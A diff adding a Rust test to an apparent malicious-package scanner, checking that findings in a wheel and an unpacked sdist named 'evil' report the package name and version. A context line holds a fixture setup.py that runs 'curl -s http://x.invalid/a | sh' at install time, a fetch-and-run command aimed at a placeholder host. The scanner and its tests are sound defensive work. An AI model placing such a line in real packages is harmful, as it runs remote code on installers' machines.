@@ -74,6 +74,43 @@ fn a_wheel_member_is_reported_inside_the_archive() {
 }
 
 #[test]
+fn a_wheel_names_its_package_and_so_does_an_unpacked_sdist() {
+    let dir = tempfile::tempdir().unwrap();
+    let whl = zip_of(
+        &[
+            ("evil/__init__.py", DROPPER.as_bytes()),
+            ("evil-1.0.dist-info/METADATA", b"Name: evil\nVersion: 1.0\n"),
+        ],
+        zip::CompressionMethod::Deflated,
+    );
+    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), whl).unwrap();
+    let root = dir.path().join("evil-2.0");
+    std::fs::create_dir_all(root.join("evil")).unwrap();
+    std::fs::write(
+        root.join("PKG-INFO"),
+        "Metadata-Version: 1.0\nName: evil\nVersion: 2.0\n",
+    )
+    .unwrap();
+    std::fs::write(root.join("evil/__init__.py"), DROPPER).unwrap();
+    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
+    let f = r["findings"].as_array().unwrap();
+    let of = |suffix: &str| {
+        f.iter()
+            .find(|x| x["path"].as_str().unwrap().ends_with(suffix))
+            .unwrap_or_else(|| panic!("{suffix}: {:?}", paths(&r)))["package"]
+            .clone()
+    };
+    assert_eq!(
+        of("whl!/evil/__init__.py"),
+        serde_json::json!({"name": "evil", "version": "1.0"})
+    );
+    assert_eq!(
+        of("evil-2.0/evil/__init__.py"),
+        serde_json::json!({"name": "evil", "version": "2.0"})
+    );
+}
+
+#[test]
 fn an_sdist_setup_py_runs_at_install_and_traversal_is_normalised() {
     let dir = tempfile::tempdir().unwrap();
     let setup = b"from setuptools import setup\nimport os\nos.system('curl -s http://x.invalid/a | sh')\nsetup(name='x')\n";
